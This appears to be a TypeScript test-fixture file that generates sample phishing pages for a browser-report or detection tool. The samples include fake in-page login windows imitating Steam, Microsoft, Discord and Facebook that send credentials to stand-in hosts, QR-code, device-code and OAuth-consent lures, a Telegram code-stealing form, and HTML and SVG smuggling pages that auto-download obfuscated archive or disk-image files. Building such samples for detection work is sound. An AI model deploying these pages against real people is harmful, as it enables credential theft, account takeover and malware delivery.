/** Windows drawn in a page, codes to scan, consents, and files assembled in the page (of nothing). */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, blob, charCodes, hexDigits, packed, stringArray } from '../obfuscation.ts';

const inWindow = (url: string, title: string, address: string, inner: string, language: string): Saved => [
  url,
  `<html lang="${language}"><head><title>${title}</title></head><body><button id="login">Sign in through ${title.split(' ')[0]}</button><div id="window" style="position:absolute;top:12%;left:30%;display:none"><div id="title-bar"><span class="mac"></span><img src="./logo.svg"> ${title} <span id="minimize">&#8212;</span><span id="maximize">□</span><span id="exit">X</span></div><div id="url-bar"><span><img src="ssl.svg" id="ssl-padlock"></span><span id="domain-name">${address}</span><span id="domain-path">/login/home/?goto=</span></div>${inner}</div><script>$(function(){$("#window").draggable({handle:"#title-bar"});$("#login").click(function(){$("#window").css("display","block")});$("#exit").click(function(){$("#window").hide()})});if(navigator.platform.indexOf('Mac')>-1)document.body.className='mac'</script></body></html>`,
];

const WINDOWS: Saved[] = [
  inWindow(
    'https://cs2-skins.tournament-vote.com/',
    'Steam Community',
    'https://steamcommunity.com',
    `<form id="sf"><input name="username"><input type="password" name="password"><input name="twofactor" maxlength="5" style="display:none"></form><script>document.getElementById('sf').onsubmit=function(){fetch('/api/auth',{method:'POST',body:new FormData(this)});return false}</script>`,
    'en',
  ),
  inWindow(
    'https://teams-meeting.join-call.app/',
    'Microsoft Anmelden',
    'https://login.microsoftonline.com',
    `<iframe id="content" src="./frames/o365.html?c=9a" frameborder="0" width="430" height="520"></iframe>`,
    'de',
  ),
  inWindow(
    'https://nitro-free.discrod-gift.com/',
    'Discord | Login',
    'https://discord.com',
    `<form action="/x.php" method="post"><input name="email"><input name="password" type="password"><img src="qr.php" alt="QR"></form>`,
    'ru',
  ),
  inWindow(
    'https://ads-business-appeal.netlify.app/case/99',
    'Facebook Log In',
    'https://www.facebook.com',
    `<form onsubmit="return go(this)"><input name="email"><input name="pass" type="password"></form><script>var tries=0;function go(f){axios.post("https://203.0.113.12/tg",{e:f.email.value,p:f.pass.value});if(++tries<2){f.pass.value="";alert("The password you’ve entered is incorrect.")}else location.href="2fa.html";return false}</script><p>Your Page will be unpublished for violating trademark. Submit an appeal within 24 hours.</p>`,
    'en',
  ),
];
const SCANS: Saved[] = [
  [
    'https://web-whatsapp.qr-login.cc/',
    `<html lang="zh"><head><title>WhatsApp Web</title></head><body><h1>在电脑上使用 WhatsApp</h1><ol><li>打开手机</li><li>扫描二维码</li></ol><img id="qr" src="data:image/png;base64,iVBORw0KGgo"><script>var s=io('https://203.0.113.13:3000');s.on('qr',function(d){document.getElementById('qr').src=d});s.on('ready',function(){location.href='https://web.whatsapp.com/'});s.emit('start','${hexDigits(2, 9)}')</script></body></html>`,
  ],
  [
    'https://hr-benefits-2024.example.pages.dev/mfa',
    `<html><head><title>Mandatory MFA enrolment</title></head><body><img src="https://logo.clearbit.com/microsoft.com"><p>Your authenticator expires today. Scan the QR code with your phone to keep access.</p><img src="https://api.qrserver.com/v1/create-qr-code/?data=https://203.0.113.14/o/&size=200x200"></body></html>`,
  ],
  [
    'https://sharefile-docs.example/open?f=Contract.pdf',
    `<html lang="en"><head><title>Microsoft device verification</title></head><body><p>To open the document, copy this code and enter it at microsoft.com/devicelogin</p><b id="code">F9XK2LQ7B</b><button onclick="navigator.clipboard.writeText(code.innerText);window.open('https://microsoft.com/devicelogin')">Copy and continue</button><script>setInterval(function(){fetch('/poll?c=F9XK2LQ7B').then(r=>r.text()).then(t=>{t=='ok'&&(location='https://onedrive.live.com')})},3000);fetch('/new').then(r=>r.json()).then(j=>{code.innerText=j.user_code})</script></body></html>`,
  ],
  [
    'https://adobe-sign.consent-app.example/start',
    `<html><head><title>Adobe Acrobat Sign – Permissions requested</title></head><body><p>Review contract.pdf</p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-00000000dead&response_type=code&redirect_uri=https%3A%2F%2F203.0.113.15%2Fcb&scope=offline_access%20Mail.ReadWrite%20MailboxSettings.ReadWrite%20Mail.Send&prompt=consent">Continue with Microsoft</a><script>setTimeout(function(){location.href=document.links[0].href},4000)</script></body></html>`,
  ],
  [
    'https://votekids-konkurs.example/',
    `<html lang="ru"><head><title>Голосование: Юные таланты</title></head><body><p>Проголосуйте за мою племянницу!</p><form id="p"><input type="tel" name="phone" placeholder="+7 номер Telegram"><button>Голосовать</button></form><form id="c" style="display:none"><input name="code" maxlength="5" placeholder="Код из Telegram"></form><form id="w" style="display:none"><input type="password" name="pw" placeholder="Облачный пароль"></form><script>p.onsubmit=e=>{e.preventDefault();fetch('/api/sendCode',{method:'POST',body:new FormData(p)});p.style.display='none';c.style.display='block'};c.oninput=e=>{if(e.target.value.length==5){fetch('/api/signIn',{method:'POST',body:new FormData(c)}).then(r=>r.json()).then(j=>{j.pw?w.style.display='block':location='https://t.me/'})}}</script></body></html>`,
  ],
];
const b64 = base64(`PK inert ${blob(99, 900)}`);
const SMUGGLED: Saved[] = [
  [
    'https://docs-transfer.example/attachment/inv_8812.html',
    `<html><head><title>Adobe PDF online</title></head><body><p>File is downloading. Document password: <b>abc321</b></p><script>var file='${b64}';var data=Uint8Array.from(atob(file),c=>c.charCodeAt(0));var blob=new Blob([data],{type:'application/zip'});var n='Scan_8812.zip';if(window.navigator.msSaveOrOpenBlob)window.navigator.msSaveBlob(blob,n);else{var a=document.createElement('a');a.style='display:none';document.body.appendChild(a);a.href=window.URL.createObjectURL(blob);a.download=n;a.click()}</script></body></html>`,
  ],
  [
    'https://onedrive-view.example/s/9',
    `<html lang="de"><head><title>Rechnung.iso wird heruntergeladen…</title></head><body onload="r()"><img src="drive.svg"><script>function r(){var t=[${charCodes(letters(300))}].map(function(x){return x^23});var b=new Blob([new Uint8Array(t)],{type:"octet/stream"}),u=URL.createObjectURL(b);setTimeout(function(){var e=document.createElement("a");e.download="Rechnung_März.iso";e.href=u;e.click()},1e3)}</script></body></html>`,
  ],
  [
    'https://voip-notice.example/play.html',
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><embed src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg"/>')}"/><script>${stringArray(['createElement', 'download', 'href', 'click', 'Voicemail.js', 'createObjectURL'], 29, (g) => `var _a=document[${g(0)}]('a');_a[${g(1)}]=${g(4)};_a[${g(2)}]=URL[${g(5)}](new Blob([atob('${b64.slice(0, 400)}')]));_a[${g(3)}]();`)}</script></body></foreignObject></svg>`,
  ],
  [
    'https://secure-mail.example/reader',
    `<html><body><p>Mensaje cifrado. Habilite el contenido.</p><script>${packed(`var z="${b64.slice(0, 200).replaceAll(/[+/=]/g, 'a')}";var w=atob(z);var y=new Uint8Array(w.length);for(var q=0;q<w.length;q++){y[q]=w.charCodeAt(q)}var lnk=document.createElement("a");lnk.href=URL.createObjectURL(new Blob([y]));lnk.download="Factura.vhd";lnk.click()`)}</script></body></html>`,
  ],
];
function letters(length: number): string {
  return blob(length, length);
}
export const disguises = {
  drawnWindow: () => WINDOWS,
  scan: () => SCANS,
  smuggling: () => SMUGGLED,
} satisfies Builders;
